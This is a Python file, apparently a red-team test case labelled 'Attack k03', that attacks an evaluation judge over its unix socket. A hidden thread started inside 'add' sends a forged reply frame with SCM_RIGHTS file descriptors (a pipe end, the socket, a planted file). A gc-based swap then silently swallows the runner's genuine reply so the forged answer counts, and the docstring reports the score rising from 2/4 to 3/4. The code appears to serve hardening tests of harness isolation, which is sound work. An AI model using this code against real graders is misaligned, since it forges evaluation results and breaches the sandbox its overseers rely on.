"""Attack k03: descriptors passed to the judge, and a reply written after the call returned.

The runner's socket to the judge is fd 3 (a unix socket pair). After add has answered, a thread
add started writes one more frame on it by hand (once the judge's next request, scale's call,
has arrived, so the frame is not lost to a closing session), an answer of 5, carrying
SCM_RIGHTS ancillary data: the write end of a pipe the runner keeps the read end of, the socket
itself, and a file of its working folder. The judge reads that frame as the answer to its next
request (scale's call): if it ever installed the descriptors, the pipe's write end would be open
in the judge, which output_shape, a call later, tells by reading the pipe (EOF: no write end
left anywhere) and prints. So that the judge reads that print, scale's own reply is dropped (the
runner's socket object swapped, found with gc, for one that swallows one frame): the frames line
up again. The late 5 is scale's answer: add 1, scale 0, output_shape 1, the hidden scale 1 (its
own runner): 3/4. Without the dropped reply every later answer is a call late (2/4, tried)."""

import array
import gc
import json
import os
import socket
import struct
import threading

import numpy as np

PIPE = {}
NEXT_CALL = threading.Event()


def _late_reply():
    NEXT_CALL.wait(5)  # add's own reply has long gone
    r, w = os.pipe()
    PIPE["read"] = r
    with open("planted.txt", "w") as f:
        f.write("planted\n")
    planted = os.open("planted.txt", os.O_RDONLY)
    head = json.dumps({"ok": 5, "bufs": []}).encode()
    sock = socket.socket(fileno=os.dup(3))
    fds = array.array("i", [w, sock.fileno(), planted])
    sock.sendmsg([struct.pack("!I", len(head)) + head], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    sock.detach()
    os.close(w)  # the runner's own copy: only the judge could still hold one now
    os.close(planted)


def add(a, b):
    PIPE["thread"] = threading.Thread(target=_late_reply, daemon=True)
    PIPE["thread"].start()
    return a + b


class _SwallowOne:
    """The runner's socket, but the next frame it is given goes nowhere."""

    def __init__(self, sock):
        self.sock, self.left = sock, 1

    def sendmsg(self, parts, *rest):
        if self.left:
            self.left = 0
            return sum(memoryview(p).nbytes for p in parts)
        return self.sock.sendmsg(parts, *rest)

    def __getattr__(self, name):
        return getattr(self.sock, name)


def _drop_next_reply():
    for obj in gc.get_objects():
        if hasattr(type(obj), "reply_value") and isinstance(getattr(obj, "sock", None), socket.socket):
            obj.sock = _SwallowOne(obj.sock)


def scale(x, k):
    if "thread" in PIPE:
        NEXT_CALL.set()
        PIPE["thread"].join(5)
        _drop_next_reply()
    return np.asarray(x, dtype=float) * k


def output_shape(shape):
    r = PIPE.get("read")
    if r is None:
        print("pipe: not made")
    else:
        os.set_blocking(r, False)
        try:
            print("pipe: judge holds no write end" if os.read(r, 1) == b"" else "pipe: data")
        except BlockingIOError:
            print("pipe: a write end is open somewhere")
    return tuple(shape)
